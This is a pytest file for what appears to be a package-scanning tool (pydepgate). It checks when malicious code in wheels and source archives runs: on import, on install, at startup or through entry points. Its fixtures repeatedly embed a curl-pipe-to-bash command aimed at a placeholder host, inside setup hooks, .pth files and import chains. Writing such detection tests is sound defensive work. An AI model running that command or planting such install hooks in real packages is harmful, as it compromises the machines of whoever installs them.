"""Code that runs because another file imports, calls or starts it, seen through scans of small archives."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from fixtures.archives import sdist_files, tar_archive, wheel
from pydepgate import scan
from pydepgate.model import Runs

COMMAND = 'os.system("curl -s https://server.invalid/x | bash")'
MAIN = f"import os\ndef helper():\n    {COMMAND}\ndef start():\n    helper()\n"
"""A module that does something only if it is asked to."""

CLASS = f"import os\nclass Agent:\n    def __init__(self):\n        self.go()\n    def go(self):\n        {COMMAND}\n"
RUNNER = f"import os\nclass Runner:\n    def run(self):\n        {COMMAND}\n"
THREAD = f"import os, threading\nclass Runner(threading.Thread):\n    def run(self):\n        {COMMAND}\n"
SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n"
HOOK = f"class H:\n    def run(self):\n        {COMMAND}\n"
FLASK = f"import flask, os\napp = flask.Flask('x')\n@app.route('/')\ndef f():\n    {COMMAND}\n"
TOP = f"import os\n{COMMAND}\n"
GUARDED = f"import os\nif __name__ == '__main__':\n    {COMMAND}\n"


def _runs(archive: Path) -> Runs:
    (finding,) = (f for f in scan(archive).findings if f.rule == "download-and-run-command")
    return finding.runs


def _wheel(folder: Path, files: dict[str, str]) -> Path:
    path = folder / "pkg-1-py3-none-any.whl"
    path.write_bytes(wheel("pkg", "1", {name: text.encode() for name, text in files.items()}))
    return path


def _sdist(folder: Path, files: dict[str, str]) -> Path:
    path = folder / "pkg-1.tar"
    path.write_bytes(tar_archive(sdist_files("pkg", "1", {name: text.encode() for name, text in files.items()})))
    return path


@pytest.mark.parametrize(
    "init",
    [
        "from .main import start\nstart()",
        "from . import main\nmain.start()",
        "from pkg.main import start as s\ns()",
        "import pkg.main\npkg.main.start()",
        "import pkg.main as m\nm.start()",
        "from .main import *\nstart()",
        "import importlib\nimportlib.import_module('pkg.main').start()",
        "import importlib\nimportlib.import_module('.main', __name__).start()",
        "__import__('pkg.main', fromlist=['x']).start()",
        "from .main import start\ndef begin():\n    start()\nbegin()",
        "def begin():\n    from .main import start\n    start()\nbegin()",
        "from .main import start\nimport threading\nthreading.Thread(target=start).start()",
        "from . import main\nimport atexit\natexit.register(main.start)",
        "from .main import start\nimport concurrent.futures as f\nf.ThreadPoolExecutor().submit(start)",
        "from .main import start\ntry:\n    start()\nexcept Exception:\n    pass",
    ],
)
def test_a_function_runs_when_another_module_calls_it(init: str, tmp_path: Path) -> None:
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": init, "pkg/main.py": MAIN})) is Runs.IMPORT


@pytest.mark.parametrize(
    ("init", "main"),
    [
        ("from .main import Agent\nAgent()", CLASS),
        ("from .main import Agent\nclass Mine(Agent): pass\nMine()", CLASS),
        ("from .main import Runner\nRunner().run()", RUNNER),
        ("from .main import Runner\nrunner = Runner()\nrunner.run()", RUNNER),
        ("from .main import runner\nrunner.run()", f"{RUNNER}runner = Runner()\n"),
        ("from .main import go\ngo()", f"{RUNNER}go = Runner().run\n"),
        ("from .main import Runner\nRunner().start()", THREAD),
        ("from .main import Runner\nclass Mine(Runner): pass\nMine().run()", RUNNER),
    ],
)
def test_classes_and_instances_of_other_modules_run(init: str, main: str, tmp_path: Path) -> None:
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": init, "pkg/main.py": main})) is Runs.IMPORT


@pytest.mark.parametrize(
    ("setup", "init"),
    [
        ("import pkg\npkg.start()", "from .main import start"),
        ("import pkg\npkg.start()", "from .main import *"),
        ("import pkg\npkg.begin()", "from . import main\nbegin = main.start"),
        ("from pkg import main\nmain.start()", ""),
        ("from pkg.main import start\nclass H(install):\n    def run(self):\n        start()\n", ""),
        ("class H(install):\n    def run(self):\n        from pkg.main import start\n        start()\n", ""),
        ("import subprocess, sys\nsubprocess.Popen([sys.executable, 'pkg/run.py'])", ""),
        ("import os\nos.system('python3 ./pkg/run.py --quiet')", ""),
        ("import os, sys\nos.execv(sys.executable, ['python', os.path.join(os.path.dirname(__file__), 'run.py')])", ""),
        ("import subprocess\nsubprocess.run(['python', '-m', 'pkg.run'])", ""),
        ("import runpy\nrunpy.run_path('pkg/run.py')", ""),
        ("import runpy\nrunpy.run_module('pkg.run', run_name='__main__')", ""),
        ("exec(open('pkg/run.py').read())", ""),
        ("import io\nexec(io.open('pkg/run.py', 'rb').read().decode('utf-8'), {})", ""),
        ("import pathlib\nexec((pathlib.Path('pkg') / 'run.py').read_text())", ""),
        ("with open('pkg/run.py') as f:\n    exec(compile(f.read(), 'x', 'exec'))", ""),
        (
            "import subprocess as s, sys, pathlib\ns.call([sys.executable, pathlib.Path(__file__).parent / 'run.py'])",
            "",
        ),
    ],
)
def test_what_a_setup_script_calls_or_starts_runs_on_install(setup: str, init: str, tmp_path: Path) -> None:
    run = "from .main import start\nif __name__ == '__main__':\n    start()\n"
    files = {"setup.py": f"{SETUP}{setup}\nsetup(name='pkg', packages=['pkg'])\n", "pkg/__init__.py": init}
    assert _runs(_sdist(tmp_path, {**files, "pkg/run.py": run, "pkg/main.py": MAIN})) is Runs.INSTALL


def test_executing_a_line_of_a_file_does_not_run_the_file(tmp_path: Path) -> None:
    setup = "import re\nwith open('pkg/run.py') as f:\n    exec(re.search('__version__.*', f.read()).group())\n"
    assert _runs(_sdist(tmp_path, {"setup.py": setup, "pkg/__init__.py": "", "pkg/run.py": TOP})) is Runs.IMPORT


def test_a_file_loaded_by_its_path_runs_as_a_module(tmp_path: Path) -> None:
    load = "import importlib.util\nspec = importlib.util.spec_from_file_location('x', 'data/{}.py')\n"
    files = {"setup.py": load.format("top"), "data/top.py": TOP}
    assert _runs(_sdist(tmp_path, files)) is Runs.INSTALL
    files = {"setup.py": load.format("guarded"), "data/guarded.py": GUARDED}
    assert _runs(_sdist(tmp_path, files)) is Runs.MAIN_GUARD


@pytest.mark.parametrize(
    ("files", "runs"),
    [
        (
            {"setup.py": f"{SETUP}{HOOK}setup(cmdclass={{'install': H}})"},
            Runs.INSTALL,
        ),
        (
            {"setup.py": f"{SETUP}{HOOK}C = {{}}\nC['sdist'] = H\nsetup(cmdclass=C)"},
            Runs.INSTALL,
        ),
        (
            {"setup.py": f"{SETUP}{HOOK}setup(**dict(cmdclass={{'develop': H}}))"},
            Runs.INSTALL,
        ),
        (
            {
                "setup.py": f"{SETUP}from hooks import H\nsetup(cmdclass={{'install': H}})",
                "hooks.py": RUNNER.replace("Runner", "H"),
            },
            Runs.INSTALL,
        ),
        (
            {
                "setup.py": f"{SETUP}from hooks import H\nclass I(H): pass\nsetup(cmdclass={{'install': I}})",
                "hooks.py": RUNNER.replace("Runner", "H"),
            },
            Runs.INSTALL,
        ),
        (
            {
                "setup.py": f"{SETUP}def after(cls):\n    def run(self):\n        {COMMAND}\n    cls.run = run\n"
                "    return cls\n@after\nclass H(install): pass\nsetup(cmdclass={'install': H})"
            },
            Runs.INSTALL,
        ),
        (
            {"setup.py": f"{SETUP}{HOOK.replace('H', 'H(install)')}setup(cmdclass={{'upload': H}})"},
            Runs.CALL,
        ),
        (
            {"setup.py": "", "setup.cfg": "[options]\ncmdclass =\n    install = hooks.Runner\n", "hooks.py": RUNNER},
            Runs.INSTALL,
        ),
        (
            {"pyproject.toml": "[tool.setuptools.cmdclass]\nbuild_py = 'hooks.Runner'\n", "hooks.py": RUNNER},
            Runs.INSTALL,
        ),
        ({"pyproject.toml": "[tool.poetry.build]\nscript = 'make.py'\n", "make.py": GUARDED}, Runs.INSTALL),
        (
            {
                "pyproject.toml": "[tool.hatch.build.hooks.custom]\n",
                "hatch_build.py": RUNNER.replace("run(", "initialize("),
            },
            Runs.INSTALL,
        ),
        (
            {
                "setup.py": f"{SETUP}setup(entry_points={{'console_scripts': ['go = pkg.cli:start']}})",
                "pkg/__init__.py": "",
                "pkg/cli.py": MAIN,
            },
            Runs.ENTRY_POINT,
        ),
        (
            {
                "setup.cfg": "[options.entry_points]\nconsole_scripts =\n    go = pkg.cli:start\n",
                "pkg/__init__.py": "",
                "pkg/cli.py": MAIN,
            },
            Runs.ENTRY_POINT,
        ),
        ({"setup.py": f"{SETUP}setup(scripts=['tools/go.py'])", "tools/go.py": GUARDED}, Runs.ENTRY_POINT),
        (
            {
                "setup.py": f"{SETUP}setup(package_dir={{'pkg': 'code/in'}})\nimport pkg.a",
                "code/in/__init__.py": "",
                "code/in/a.py": TOP,
            },
            Runs.INSTALL,
        ),
        (
            {"setup.py": f"{SETUP}setup(package_dir={{'': 'code'}})", "code/pkg/__init__.py": "", "code/pkg/a.py": TOP},
            Runs.IMPORT,
        ),
    ],
)
def test_what_metadata_and_setup_name_runs(files: dict[str, str], runs: Runs, tmp_path: Path) -> None:
    assert (
        _runs(
            _sdist(
                tmp_path,
                {name: text.replace("import install\n", "import install\nimport os\n") for name, text in files.items()},
            )
        )
        is runs
    )


@pytest.mark.parametrize(
    ("files", "runs"),
    [
        ({"name/space/__init__.py": TOP}, Runs.IMPORT),
        ({"name/module.py": TOP}, Runs.IMPORT),
        ({"pkg/__init__.py": "", "pkg/data/script.py": TOP}, Runs.CALL),
        ({"pkg/__init__.py": "", "pkg/examples/script.py": TOP}, Runs.NEVER),
        ({"pkg/a.py/pkg/a.py": TOP}, Runs.IMPORT),
        ({"home/user/lib/site-packages/pkg/__init__.py": TOP}, Runs.IMPORT),
        ({"pkg/__init__.py": "from .a import x", "pkg/a.py": MAIN}, Runs.CALL),
        (
            {"pkg/__init__.py": "import os\ndef f():\n    from .a import start\n    start()", "pkg/a.py": MAIN},
            Runs.CALL,
        ),
        ({"pkg/__init__.py": "", "pkg/a.py": f"{MAIN}", "tests/a.py": "from pkg.a import start\nstart()"}, Runs.CALL),
        (
            {
                "pkg/__init__.py": "",
                "pkg/b.py": MAIN,
                "pkg/a.py": "from .b import start\nif __name__ == '__main__':\n    start()",
            },
            Runs.MAIN_GUARD,
        ),
        ({"x.pth": "import pkg.a; pkg.a.start()", "pkg/__init__.py": "", "pkg/a.py": MAIN}, Runs.STARTUP),
        (
            {"pkg/__init__.py": f"{FLASK}app.run()"},
            Runs.IMPORT,
        ),
        (
            {"pkg/__init__.py": FLASK},
            Runs.CALL,
        ),
    ],
)
def test_when_code_of_a_wheel_runs(files: dict[str, str], runs: Runs, tmp_path: Path) -> None:
    assert _runs(_wheel(tmp_path, files)) is runs


@pytest.mark.parametrize(
    ("name", "runs"), [("tools/a.py", Runs.CALL), ("pkg/a.py", Runs.IMPORT), ("name-1/a.py", Runs.CALL)]
)
def test_folders_of_a_source_tree_that_are_no_packages(name: str, runs: Runs, tmp_path: Path) -> None:
    assert _runs(_sdist(tmp_path, {"setup.py": "", name: TOP})) is runs


def test_names_that_lead_in_circles_end(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "from .a import *\nfrom .b import *\nstart()\nfrom .c import loop\nloop()",
        "pkg/a.py": "from .b import *",
        "pkg/b.py": "from .a import *\nfrom .main import *",
        "pkg/c.py": "from .d import loop",
        "pkg/d.py": "from .c import loop",
        "pkg/main.py": MAIN,
    }
    assert _runs(_wheel(tmp_path, files)) is Runs.IMPORT


def test_the_order_of_files_does_not_matter(tmp_path: Path) -> None:
    files = {
        "pkg-1/setup.py": "from helper import start\nstart()",
        "pkg-1/PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n",
        "pkg-1/helper.py": "from pkg.main import start",
        "pkg-1/pkg/__init__.py": "",
        "pkg-1/src/pkg/main.py": "start = None",
        "pkg-1/pkg/main.py": MAIN,
    }
    found = []
    for number, names in enumerate((sorted(files), sorted(files, reverse=True))):
        path = tmp_path / f"{number}.tar"
        with tarfile.open(path, "w") as archive:
            for name in names:
                info = tarfile.TarInfo(name)
                info.size = len(files[name])
                archive.addfile(info, io.BytesIO(files[name].encode()))
        found.append({(f.rule, f.file, f.runs) for f in scan(path).findings})
    assert found[0] == found[1]
    assert {runs for rule, _, runs in found[0] if rule == "download-and-run-command"} == {Runs.INSTALL}


HANDS = f"import os\nfrom .other import take\ndef go():\n    {COMMAND}\ndef begin():\n    take(go)\nbegin()\n"
DECORATED = f"import os\nfrom .other import take\n@take\ndef go():\n    {COMMAND}\n"
KEEPS = "class Hooks:\n    def __init__(self, f):\n        self.f = f\n    def start(self):\n        self.f()\n"


@pytest.mark.parametrize(
    "other",
    [
        "def take(f):\n    f()\n",
        "def take(f=None, *rest):\n    callback = f or print\n    callback()\n",
        "def take(*functions):\n    for f in functions:\n        f()\n",
        "import threading\ndef take(f):\n    threading.Thread(target=f, daemon=True).start()\n",
        "import atexit\ndef take(f):\n    atexit.register(f)\n",
        "def take(f):\n    inner(f)\ndef inner(g):\n    g()\n",
        "from .third import inner\ndef take(f):\n    inner(function=f)\n",
        "import functools\ndef take(f):\n    functools.partial(f)()\n",
        "def take(f):\n    def wrapper():\n        f()\n    wrapper()\n",
        "waiting = []\ndef take(f):\n    waiting.append(f)\n    for each in waiting:\n        each()\n",
        f"{KEEPS}def take(f):\n    Hooks(f).start()\n",
        f"{KEEPS}hooks = Hooks(None)\ndef take(f):\n    hooks.f = f\n    hooks.start()\n",
        "from library import take\n",
    ],
)
def test_a_function_runs_when_another_file_calls_what_it_is_given(other: str, tmp_path: Path) -> None:
    third = "def inner(*, function):\n    function()\n"
    files = {"pkg/__init__.py": HANDS, "pkg/other.py": other, "pkg/third.py": third}
    assert _runs(_wheel(tmp_path, files)) is Runs.IMPORT


@pytest.mark.parametrize(
    "other",
    [
        "def take(f):\n    return f\n",
        "COMMANDS = {}\ndef take(f):\n    COMMANDS[f.__name__] = f\n",
        "waiting = []\ndef take(f):\n    waiting.append(f)\n",
        "import functools\ndef take(f):\n    @functools.wraps(f)\n    def g():\n        return f()\n    return g\n",
        "def take(f):\n    if not callable(f) or isinstance(f, type):\n        raise TypeError(f)\n",
        f"{KEEPS}def take(f):\n    return Hooks(f)\n",
        "COMMANDS = {}\ndef take(f):\n    COMMANDS['x'] = f\ndef main():\n    COMMANDS['x']()\n",
    ],
)
def test_a_function_that_another_file_only_keeps_or_wraps_does_not_run(other: str, tmp_path: Path) -> None:
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": HANDS, "pkg/other.py": other})) is Runs.CALL


def test_a_function_that_is_kept_runs_when_what_takes_it_does(tmp_path: Path) -> None:
    other = "COMMANDS = {}\ndef take(f):\n    COMMANDS['x'] = f\ndef main():\n    COMMANDS['x']()\n"
    main = "from pkg import other\nother.main()\n"
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": HANDS, "pkg/other.py": other, "main.py": main})) is Runs.IMPORT


def test_a_function_of_one_file_runs_when_a_second_hands_it_to_a_third(tmp_path: Path) -> None:
    init = "from . import main\nfrom .other import take\ntake(main.start)\n"
    files = {"pkg/__init__.py": init, "pkg/main.py": MAIN, "pkg/other.py": "def take(f):\n    f()\n"}
    assert _runs(_wheel(tmp_path, files)) is Runs.IMPORT


def test_a_command_that_a_decorator_registers_runs_later(tmp_path: Path) -> None:
    other = "import argparse\nparser = argparse.ArgumentParser()\ndef take(f):\n    parser.set_defaults(func=f)\n"
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": HANDS, "pkg/other.py": other})) is Runs.CALL


def test_what_a_decorator_only_wraps_runs_later(tmp_path: Path) -> None:
    other = (
        "from functools import wraps\nclass Wraps:\n    def __call__(self, f, /):\n        def wrapper(*args):\n"
        "            return f(*args)\n        return wraps(f)(wrapper)\n"
        "def take(f=None):\n    made = Wraps()\n    return made(f) if f else made\n"
    )
    assert _runs(_wheel(tmp_path, {"pkg/__init__.py": DECORATED, "pkg/other.py": other})) is Runs.CALL
